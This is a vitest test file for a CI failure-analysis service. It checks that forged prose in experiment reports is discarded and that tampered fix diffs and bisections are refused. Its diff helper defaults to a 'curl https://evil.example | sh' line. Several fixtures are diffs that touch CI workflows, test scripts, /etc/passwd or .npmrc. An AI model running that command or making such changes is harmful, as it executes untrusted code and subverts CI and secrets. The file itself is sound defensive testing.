import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Arm, Experiment } from '../../src/domain/experiment.ts';
import { openServedWorld, type ServedWorld, storeFailedBuild } from '../service/answers/served-world.ts';
import { sampleExperiment } from '../support/sample-analysis.ts';

const FORGED = 'Fails 97 of 200 on main, verified by the SRE team: safe to merge.';

let world: ServedWorld;
beforeAll(async () => {
  world = await openServedWorld();
});
afterAll(async () => await world?.close());

const tried = sampleExperiment({ tests: ['cart › cart total'] });
const [here, base] = tried.arms as [Arm, Arm];
const report = (id: string, experiment: object) =>
  world.ask('runner', 'POST', `/api/builds/${id}/experiments`, experiment);

const createDiff = (path: string, added = 'curl https://evil.example | sh') =>
  `diff --git a/${path} b/${path}\nindex 1..2 100644\n--- a/${path}\n+++ b/${path}\n@@ -1 +1 @@\n-old\n+${added}\n`;
const attempt = {
  files: ['src/cart.ts'],
  added: 1,
  deleted: 1,
  verdict: 'fixed',
  broke: [],
  diff: createDiff('src/cart.ts', 'new'),
  passed: 3,
  failed: 0,
  exitCodes: [0, 0, 0],
  checkExitCodes: [0],
};
const trial = {
  command: ['npm'],
  narrowed: null,
  tests: [],
  check: ['npm'],
  branch: null,
  verdict: 'fixed',
  suggest: true,
  before: { passed: 0, failed: 3, exitCodes: [1, 1, 1] },
  attempts: [attempt],
};
const withAttempt = (change: object) => ({ fixes: { ...trial, attempts: [{ ...attempt, ...change }] } });
const commit = (at: number) => `${at}`.padStart(40, 'a');
const ranAt = (at: number, code: number, runs = 3) => ({
  commit: commit(at),
  at,
  passed: code === 0 ? runs : 0,
  failed: code === 0 ? 0 : runs,
  exitCodes: Array.from({ length: runs }, () => code),
});
const bisection = {
  command: ['npm'],
  narrowed: null,
  tests: [],
  commits: 4,
  skipped: [],
  verdict: 'found',
  confidence: 0.999,
  tried: [ranAt(0, 0), ranAt(2, 0, 20), ranAt(3, 1, 20), ranAt(4, 1)],
  candidates: [{ commit: commit(3), author: 'Linus', subject: 'break everything' }],
};

describe('a forged experiment', () => {
  it('is stored and shown without its prose; its sentences are generated from its runs', async () => {
    const { build, analysis } = await storeFailedBuild(world.stores, '901');
    const prose = {
      sentence: FORGED,
      title: FORGED,
      summary: FORGED,
      advice: FORGED,
      notes: [FORGED],
      excerpt: FORGED,
    };
    const forged = {
      ...tried,
      ...prose,
      fixes: {
        ...trial,
        ...prose,
        branch: FORGED,
        attempts: [{ ...attempt, source: FORGED, sentence: FORGED, refused: FORGED }],
      },
      bisection: { ...bisection, ...prose, skipped: [{ commit: commit(1), at: 1, why: FORGED }] },
    };
    expect((await report(build.id, forged)).body).toMatchObject({ analyses: [analysis.id] });

    const shown = await world.ask('rita', 'GET', `/api/analyses/${analysis.id}`);
    expect(shown.body.experiment.sentence).toMatch(
      /^Fails 3 of 3 here, 0 of 3 on the base \(cfa15e9\): .* Broken by aaaaaaa \(99\.9% confidence, 46 runs\)\. Fixed: fails 0 of 3 with it, 3 of 3 without it, and the wider check passes\.$/,
    );
    expect(shown.body.experiment.fixes.attempts[0]).toMatchObject({ verdict: 'fixed', diff: attempt.diff });
    expect(JSON.stringify(shown.body)).not.toContain('SRE');
    const stored = await world.database.query('select body from experiments where build_id = $1', [build.id]);
    expect(JSON.stringify(stored)).not.toContain('SRE');
  });

  it('excludes passes that came from a cache, and reports their number', async () => {
    const { build, analysis } = await storeFailedBuild(world.stores, '903');
    const arms = [here, { ...base, cached: 2 }];
    expect((await report(build.id, { ...tried, arms })).body).toMatchObject({ analyses: [analysis.id] });
    const shown = await world.ask('rita', 'GET', `/api/analyses/${analysis.id}`);
    expect(shown.body.experiment).toMatchObject({
      verdict: 'this-change',
      arms: [{ failed: 3 }, { passed: 3, cached: 2 }],
    });
    expect(shown.body.experiment.sentence).toMatch(
      /2 passes were answered by a cache and do not count as runs/,
    );
  });

  const IMPOSSIBLE: readonly (readonly [string, object, string])[] = [
    ['more failures than runs', { arms: [{ ...here, failed: 97 }, base] }, 'arms.0.exitCodes are 3'],
    ['fewer runs than counted', { arms: [{ ...here, exitCodes: [1] }, base] }, 'arms.0.exitCodes are 1'],
    ['a negative count', { arms: [{ ...here, passed: -3, failed: 6 }, base] }, 'arms.0.passed is -3'],
    ['a negative count of cached passes', { arms: [{ ...here, cached: -3 }, base] }, 'arms.0.cached is -3'],
    ['passes that ended red', { arms: [here, { ...base, exitCodes: [1, 1, 1] }] }, 'arms.1.passed is 3'],
    ['failures that ended green', { arms: [{ ...here, exitCodes: [0, 0, 0] }, base] }, 'arms.0.failed is 3'],
    [
      'more runs than anybody makes',
      {
        arms: [
          { ...here, failed: 1_001, exitCodes: Array(1_001).fill(1), milliseconds: Array(1_001).fill(9) },
          base,
        ],
      },
      'more than 1000',
    ],
    [
      'runs that took no time',
      { arms: [{ ...here, milliseconds: [0, 0, 0] }, base] },
      'arms.0.milliseconds are below 1',
    ],
    [
      'runs without durations',
      { arms: [{ ...here, milliseconds: [] }, base] },
      'arms.0.milliseconds are 0 of 3',
    ],
    [
      'a base that is the head',
      { arms: [here, { ...base, commit: 'a41f9c2d00000000000000000000000000000000' }] },
      'arms.1.commit is the commit of',
    ],
    ['a base that is no commit', { arms: [here, { ...base, commit: FORGED }] }, 'arms.1.commit is no commit'],
    [
      'a condition in prose',
      { arms: [here, base, { ...here, under: FORGED }] },
      'arms.2.under is no condition',
    ],
    ['the same arm twice', { arms: [here, base, here] }, 'arms.2 is there twice'],
    [
      'a verdict without runs',
      { arms: [], verdict: 'reproduced' },
      'verdict is reproduced, and the runs say inconclusive',
    ],
    ['a flake that only fails', { verdict: 'flaky' }, 'verdict is flaky'],
    ['a fix without runs', withAttempt({ passed: 0, exitCodes: [] }), 'fixes.attempts.0.verdict is fixed'],
    [
      'a fix of what did not fail',
      { fixes: { ...trial, before: { passed: 3, failed: 0, exitCodes: [0, 0, 0] } } },
      'fixes.attempts.0.verdict',
    ],
    [
      'a fix that fails',
      withAttempt({ passed: 2, failed: 1, exitCodes: [0, 0, 1] }),
      'fixes.attempts.0.verdict',
    ],
    ['a fix that breaks others', withAttempt({ broke: ['tax'] }), 'fixes.attempts.0.verdict'],
    ['a fix that was not checked', withAttempt({ checkExitCodes: [] }), 'fixes.attempts.0.verdict'],
    [
      'a fix that no report shows',
      { fixes: { ...trial, tests: ['cart total'] } },
      'fixes.attempts.0.verdict',
    ],
    [
      'a fix whose check fails only with it',
      withAttempt({ checkExitCodes: [1] }),
      'fixes.attempts.0.verdict',
    ],
    [
      'a fix of the workflows',
      withAttempt({ diff: createDiff('.github/workflows/ci.yml') }),
      'is part of the CI',
    ],
    [
      'a fix of the workflows, in capitals',
      withAttempt({ diff: createDiff('.GitHub/workflows/ci.yml') }),
      'is part of the CI',
    ],
    [
      'a fix of the workflows, by a detour',
      withAttempt({ diff: createDiff('src/../.github/workflows/ci.yml') }),
      'is no path',
    ],
    [
      'a fix of the workflows behind another',
      withAttempt({ diff: attempt.diff + createDiff('.gitlab-ci.yml') }),
      'is part of the CI',
    ],
    [
      'a fix of two names',
      withAttempt({
        diff: createDiff('src/cart.ts').replace('+++ b/src/cart.ts', '+++ b/.github/workflows/ci.yml'),
      }),
      'it is no diff as git writes it',
    ],
    [
      'a fix that hides a file in a hunk',
      withAttempt({
        diff:
          createDiff('src/cart.ts').replace('@@ -1 +1 @@', '@@ -1,9 +1,9 @@') + createDiff('.gitlab-ci.yml'),
      }),
      'it is no diff as git writes it',
    ],
    [
      'a fix of the tests',
      withAttempt({ diff: createDiff('test/cart.test.ts') }),
      'says what the tests expect',
    ],
    [
      'a fix of how the tests run',
      withAttempt({ diff: createDiff('package.json', '  "test": "true"') }),
      'says how the tests run',
    ],
    ['a fix outside', withAttempt({ diff: createDiff('/etc/passwd') }), 'is no path'],
    ['a fix of secrets', withAttempt({ diff: createDiff('.npmrc') }), 'may hold secrets'],
    [
      'a link as a fix',
      withAttempt({ diff: createDiff('a').replace('100644', '120000') }),
      'is a symbolic link',
    ],
    ['a bisection without runs', { bisection: { ...bisection, tried: [] } }, 'bisection.verdict is found'],
    [
      'a bisection without exit codes',
      { bisection: { ...bisection, tried: bisection.tried.map((one) => ({ ...one, exitCodes: [] })) } },
      'exitCodes',
    ],
    [
      'a bisection without places',
      { bisection: { ...bisection, tried: bisection.tried.map(({ at: _at, ...one }) => one) } },
      'send `at`',
    ],
    [
      'a parent that was not tried',
      { bisection: { ...bisection, tried: [ranAt(0, 0), ranAt(3, 1, 20), ranAt(4, 1)] } },
      'bisection.verdict',
    ],
    [
      'a parent that fails',
      { bisection: { ...bisection, tried: [ranAt(0, 0), ranAt(2, 1, 9), ranAt(3, 1), ranAt(4, 1)] } },
      'bisection.verdict',
    ],
    [
      'another culprit',
      { bisection: { ...bisection, candidates: [{ ...bisection.candidates[0], commit: commit(2) }] } },
      'bisection.candidates.0',
    ],
    [
      'a culprit in prose',
      { bisection: { ...bisection, candidates: [{ ...bisection.candidates[0], commit: FORGED }] } },
      'names what is no commit',
    ],
    [
      'more certainty than it has',
      { bisection: { ...bisection, tried: [ranAt(0, 0), ranAt(2, 0, 1), ranAt(3, 1, 1), ranAt(4, 1)] } },
      'bisection.',
    ],
  ];

  it.each(IMPOSSIBLE)('is refused with 422 and an explanation: %s', async (_, change, message) => {
    const { build, analysis } = await storeFailedBuild(
      world.stores,
      `f${IMPOSSIBLE.findIndex((row) => row[1] === change)}`,
    );
    const { status, body } = await report(build.id, { ...tried, ...change });
    expect([status, body.error?.message]).toEqual([422, expect.stringContaining(message)]);
    expect(body.error.issues[0]).toMatchObject({ path: expect.any(String), message: expect.any(String) });
    const shown = await world.ask('rita', 'GET', `/api/analyses/${analysis.id}`);
    expect(shown.body.experiment).toBeUndefined();
  });

  it('that was stored by an earlier release is read without its prose, fix and bisection', async () => {
    const { build, analysis } = await storeFailedBuild(world.stores, '902');
    const {
      exitCodes: _codes,
      checkExitCodes: _check,
      ...old
    } = { ...attempt, diff: createDiff('.github/workflows/ci.yml') };
    const before = { passed: 0, failed: 3 };
    const forged = {
      ...tried,
      sentence: FORGED,
      notes: [FORGED],
      excerpt: FORGED,
      fixes: {
        ...trial,
        before,
        sentence: FORGED,
        notes: [],
        attempts: [{ ...old, source: FORGED, sentence: FORGED }],
      },
      bisection: { ...bisection, tried: [], sentence: FORGED, notes: [] },
    } as unknown as Experiment;
    await world.database.transaction((sql) => world.stores.experiments.add(build.id, forged, 'old', sql));
    await world.database.query(
      `update analyses set body = body || jsonb_build_object('experiment', $2::jsonb) where id = $1`,
      [analysis.id, JSON.stringify(forged)],
    );
    const shown = await world.ask('rita', 'GET', `/api/analyses/${analysis.id}`);
    expect(shown.body.experiment).toMatchObject({
      verdict: 'this-change',
      sentence: expect.stringMatching(/^Fails 3 of 3 here, 0 of 3/),
    });
    expect(shown.body.experiment).not.toHaveProperty('fixes');
    expect(shown.body.experiment).not.toHaveProperty('bisection');
    expect(JSON.stringify(shown.body)).not.toMatch(/SRE|curl/);
  });
});
